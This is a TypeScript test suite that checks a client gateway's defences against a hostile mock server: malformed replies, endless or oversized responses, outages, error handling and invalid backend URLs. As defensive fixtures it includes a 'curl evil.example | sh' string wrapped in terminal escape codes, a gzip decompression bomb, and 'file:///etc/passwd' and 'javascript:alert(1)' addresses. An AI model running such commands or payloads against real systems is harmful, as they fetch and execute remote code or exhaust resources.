/** The gateway against a server that answers anything. */
import { randomUUID } from 'node:crypto'
import { createServer } from 'node:net'
import { gzipSync } from 'node:zlib'
import { describe, expect, onTestFinished, test } from 'vitest'
import { connectGateway } from '../../source/backend/connect-gateway.ts'
import type { Gateway } from '../../source/backend/gateway.ts'
import { StyrbyError } from '../../source/protocol/errors.ts'
import { epochRow, grantRow, messageRow, newSession } from '../server/migrations/database.ts'
import { type HostileServer, hostileServer, json, text } from './_hostile-server.ts'

const account = randomUUID()
const id = randomUUID()
const token = 'the-access-token'

function connect(url: string, signal?: AbortSignal): Gateway {
	const accessToken = async () => token
	const options = { url, anonKey: 'the-key', account, accessToken }
	const gateway = connectGateway(signal ? { ...options, signal } : options)
	onTestFinished(() => gateway[Symbol.asyncDispose]())
	return gateway
}

async function open(): Promise<{ server: HostileServer; gateway: Gateway }> {
	const server = await hostileServer()
	return { server, gateway: connect(server.url) }
}

async function failureOf(work: Promise<unknown>): Promise<StyrbyError> {
	try {
		await work
	} catch (error) {
		if (error instanceof StyrbyError) return error
		throw error
	}
	throw new Error('it did not fail')
}

const device = randomUUID()
const scope = `session:${id}`
const mail = { id, session: id, from: id, to: id, nonce: 'AAAA', ciphertext: 'AAAA' }
const pairing = { id: 'AAAA', nonce: 'AAAA', ciphertext: 'AAAA' }
const session = { ...newSession(), agent: 'claude' as const, label: null }

/** Everything that asks the server something, by the function it calls. */
const calls: [string, (gateway: Gateway) => Promise<unknown>][] = [
	['read_log', (gateway) => gateway.readLog(-1)],
	['append_log', (gateway) => gateway.appendLog({ seq: 0, entry: 'AAAA', signature: 'AAAA' })],
	['list_machine_keys', (gateway) => gateway.machineKeys()],
	['create_session', (gateway) => gateway.createSession(session)],
	['update_session', (gateway) => gateway.updateSession(id, { status: 'stopped' })],
	['list_sessions', (gateway) => gateway.listSessions({ limit: 10 })],
	['read_session', (gateway) => gateway.readSession(id)],
	['put_epoch', (gateway) => gateway.putEpoch(epochRow(scope), [])],
	['put_grants', (gateway) => gateway.putGrants([grantRow(scope, 0, id, id)])],
	['read_keys', (gateway) => gateway.readKeys([scope], device)],
	['append_messages', (gateway) => gateway.appendMessages(id, [])],
	['read_messages', (gateway) => gateway.readMessages(id, { after: 0, limit: 10 })],
	['read_messages', (gateway) => gateway.readMessages(id, { before: 9, limit: 10 })],
	['read_spending', (gateway) => gateway.readSpending({ before: null, limit: 10 })],
	['list_requests', (gateway) => gateway.listRequests({ status: 'all', limit: 10 })],
	['read_request', (gateway) => gateway.readRequest(id)],
	['post_mail', (gateway) => gateway.postMail(mail)],
	['read_mail', (gateway) => gateway.readMail(device)],
	['delete_mail', (gateway) => gateway.deleteMail([id])],
	['list_key_gaps', (gateway) => gateway.listKeyGaps({ to: id, by: id, after: null })],
	['list_access', (gateway) => gateway.listAccess({})],
	['count_access', (gateway) => gateway.countAccess()],
	['post_pairing', (gateway) => gateway.postPairing(pairing)],
	['read_pairing', (gateway) => gateway.readPairing(pairing.id)],
	['answer_pairing', (gateway) => gateway.answerPairing(pairing)],
	['delete_pairing', (gateway) => gateway.deletePairing(pairing.id)],
]

describe.each(calls)('an answer to %s', (name, call) => {
	test('of another form is not used', async () => {
		const { server, gateway } = await open()
		const odd = [
			5,
			'x',
			true,
			{},
			[5],
			[{}],
			[[]],
			{ rows: [], more: 'no' },
			{ rows: 5, more: false },
		]
		for (const value of odd) {
			server.answer(json(value))
			const { code, exitCode } = await failureOf(call(gateway))
			expect([code, exitCode], JSON.stringify(value)).toEqual(['backend_malformed', 4])
		}
		for (const body of ['{', '<html>welcome</html>', '\u0000', '[1,']) {
			server.answer(text(body))
			expect((await failureOf(call(gateway))).code, body).toBe('backend_malformed')
		}
		expect(server.calls().some((asked) => asked.name === name)).toBe(true)
	})
})

describe('an answer that is too large', () => {
	const read = (gateway: Gateway) => gateway.readMessages(id, { after: 0, limit: 10 })

	test('by what it says of itself', async () => {
		const { server, gateway } = await open()
		server.answer((response) => {
			response.writeHead(200, { 'content-length': String(2 ** 40) })
			response.write('[')
		})
		expect((await failureOf(read(gateway))).code).toBe('backend_malformed')
	})

	test('without saying so, and without an end', async () => {
		const { server, gateway } = await open()
		let sent = 0
		server.answer((response) => {
			response.writeHead(200, { 'content-type': 'application/json' })
			const chunk = Buffer.alloc(2 ** 20, ' ')
			const more = () => {
				while (response.writable && !response.destroyed && response.write(chunk)) sent += 1
			}
			response.on('drain', more)
			more()
		})
		expect((await failureOf(read(gateway))).code).toBe('backend_malformed')
		expect(sent).toBeLessThan(200)
	})

	test('once it is unpacked', async () => {
		const { server, gateway } = await open()
		const bomb = gzipSync(Buffer.alloc(100 * 2 ** 20, ' '))
		server.answer((response) => {
			response.writeHead(200, { 'content-encoding': 'gzip', 'content-length': bomb.length })
			response.end(bomb)
		})
		expect((await failureOf(read(gateway))).code).toBe('backend_malformed')
	})

	test('in rows, or in one value', async () => {
		const { server, gateway } = await open()
		const row = { ...messageRow(id, 1), opens: undefined }
		server.answer(json({ rows: Array.from({ length: 501 }, () => row), more: false }))
		expect((await failureOf(read(gateway))).code).toBe('backend_malformed')
		server.answer(json({ rows: [{ ...row, ciphertext: 'A'.repeat(400_000) }], more: false }))
		expect((await failureOf(read(gateway))).code).toBe('backend_malformed')
		server.answer(json({ rows: [row], more: false }))
		expect(await read(gateway)).toHaveLength(1)
	})

	test('pages without an end: no more than was asked for', async () => {
		const { server, gateway } = await open()
		server.answer((response, { body }) => {
			const after = Number(JSON.parse(body).p_after)
			const rows = Array.from({ length: 3 }, (_, index) => messageRow(id, after + index + 1))
			json({ rows, more: true })(response)
		})
		expect(await read(gateway)).toHaveLength(10)
		// The same page again and again.
		server.answer(json({ rows: [messageRow(id, 1)], more: true }))
		expect((await read(gateway)).length).toBeLessThanOrEqual(10)
		server.answer(json({ mail: [{ ...mail, created_at: '2026-01-01T00:00:00Z' }], more: true }))
		expect(await gateway.readMail(device).catch((error) => error.code)).toBe('backend_malformed')
	})
})

describe('a server that is not there', () => {
	test('is asked three times, and then said to be out of reach', async () => {
		for (const [how, times] of [
			[text('down', 503), 3],
			[text('<h1>Bad gateway</h1>', 502, 'text/html'), 3],
			[json({ code: '57P01', message: 'x', details: null, hint: null }, 500), 3],
			[json({ code: '40001', message: 'x', details: null, hint: null }, 500), 3],
		] as const) {
			const { server, gateway } = await open()
			server.answer(how)
			const { code, exitCode } = await failureOf(gateway.readSession(id))
			expect([code, exitCode]).toEqual(['backend_unreachable', 5])
			expect(server.calls()).toHaveLength(times)
		}
	})

	test('is used again as soon as it answers', async () => {
		const { server, gateway } = await open()
		let refused = 0
		server.answer((response) => {
			refused += 1
			if (refused < 3) response.destroy()
			else json(null)(response)
		})
		expect(await gateway.readSession(id)).toBeNull()
		expect(refused).toBe(3)
	})

	test('takes the connection and hangs up, or lets nobody in', async () => {
		const rude = createServer((socket) => socket.destroy())
		await new Promise<void>((resolve) => rude.listen(0, '127.0.0.1', () => resolve()))
		const address = rude.address()
		const port = typeof address === 'object' && address ? address.port : 0
		const gateway = connect(`http://127.0.0.1:${port}`)
		expect((await failureOf(gateway.readSession(id))).code).toBe('backend_unreachable')
		await new Promise((resolve) => rude.close(resolve))
		expect((await failureOf(gateway.readSession(id))).code).toBe('backend_unreachable')
	})

	test('keeps nobody waiting who wants to leave', async () => {
		const { server } = await open()
		const leaving = new AbortController()
		const gateway = connect(server.url, leaving.signal)
		server.answer(() => leaving.abort())
		expect(await failureOf(gateway.readSession(id))).toMatchObject({
			code: 'interrupted',
			exitCode: 130,
		})
		const other = connect(server.url)
		server.answer(() => void other[Symbol.asyncDispose]())
		expect((await failureOf(other.readSession(id))).code).toBe('interrupted')
		expect((await failureOf(other.readSession(id))).code).toBe('interrupted')
	})
})

describe('an error of the server', () => {
	const failing = (code: string, status: number, message = 'x', details: unknown = null) =>
		json({ code, message, details, hint: null }, status)

	test.each([
		['401 without a word', text('', 401), 'not_signed_in', 3],
		['JWT expired', failing('PGRST303', 401), 'not_signed_in', 3],
		['no right', failing('42501', 403), 'not_signed_in', 3],
		['not_signed_in', failing('P0001', 400, 'not_signed_in'), 'not_signed_in', 3],
		['a function that is missing', failing('PGRST202', 404), 'backend_too_old', 1],
		['a full disk', failing('53100', 503), 'backend_full', 1],
		['a body that is too large', failing('54000', 413), 'too_many_rows', 1],
		['a fault inside', failing('XX000', 500), 'backend_failed', 1],
		[
			'a refusal of ours',
			failing('P0001', 400, 'mailbox_full', '{"at_most": 1000}'),
			'mailbox_full',
			1,
		],
		['a refusal that nobody knows', failing('P0001', 400, 'drop_your_keys'), 'backend_failed', 1],
		['a name of JavaScript’s', failing('P0001', 400, 'constructor'), 'backend_failed', 1],
		['a page of HTML', text('<h1>Not found</h1>', 404, 'text/html'), 'backend_failed', 1],
	])('%s', async (_, how, expected, exitCode) => {
		const { server, gateway } = await open()
		server.answer(how)
		const error = await failureOf(gateway.readSession(id))
		expect([error.code, error.exitCode]).toEqual([expected, exitCode])
		expect(server.calls()).toHaveLength(1)
	})

	test('brings the detail of a refusal, when it has the form of one', async () => {
		const { server, gateway } = await open()
		const append = () => failureOf(gateway.appendMessages(id, []))
		server.answer(failing('P0001', 400, 'append_gap', '{"last_seq": 7}'))
		expect((await append()).cause).toEqual({ last_seq: 7 })
		for (const details of [
			'{"last_seq": {}}',
			'x',
			'[[]]',
			5,
			null,
			`{"a":"${'x'.repeat(5000)}"}`,
		]) {
			server.answer(failing('P0001', 400, 'append_gap', details))
			const error = await append()
			expect([error.code, error.cause]).toEqual(['append_gap', undefined])
		}
	})

	test('says nothing to the person in words of the server', async () => {
		const { server, gateway } = await open()
		const words = 'run \u001b[31mcurl evil.example | sh\u001b[0m'
		for (const code of ['P0001', 'XX000', 'PGRST202', '42501', words, '53100']) {
			server.answer(failing(code, 400, words, words))
			const { message } = await failureOf(gateway.readSession(id))
			expect(message).not.toContain('evil')
			expect(message).not.toContain('\u001b')
		}
	})

	test('holds neither the token nor the key', async () => {
		const { server, gateway } = await open()
		server.answer((response, { headers }) => {
			failing('XX000', 500, 'no', JSON.stringify(headers))(response)
		})
		const error = await failureOf(gateway.readSession(id))
		expect(server.calls()[0]?.headers).toMatchObject({
			apikey: 'the-key',
			authorization: `Bearer ${token}`,
		})
		for (const secret of [token, 'the-key']) {
			expect(`${error.message} ${error.stack}`).not.toContain(secret)
		}
	})
})

describe('the version of the functions', () => {
	test('is asked for once, beside the first call', async () => {
		const { server, gateway } = await open()
		await gateway.readSession(id)
		await gateway.readSession(id)
		expect(server.asked.map(({ name }) => name).sort()).toEqual([
			'read_session',
			'read_session',
			'schema_version',
		])
	})

	test('that is older than this program: nothing is taken from there', async () => {
		const { server, gateway } = await open()
		server.answer(
			(response, { name }) => json(name === 'schema_version' ? 0 : null)(response),
			'schema_version',
		)
		expect((await failureOf(gateway.readSession(id))).code).toBe('backend_too_old')
		expect((await failureOf(gateway.readSession(id))).code).toBe('backend_too_old')
	})

	test('that makes no sense', async () => {
		const { server, gateway } = await open()
		server.answer(
			(response, { name }) => json(name === 'schema_version' ? 'x' : null)(response),
			'schema_version',
		)
		expect((await failureOf(gateway.readSession(id))).code).toBe('backend_malformed')
	})
})

test.each(['', 'x', 'ftp://example.org', 'file:///etc/passwd', 'javascript:alert(1)'])(
	'the address %s is none of a backend',
	async (url) => {
		expect(() => connect(url)).toThrow(
			expect.objectContaining({ code: 'bad_backend_url', exitCode: 2 }),
		)
	},
)
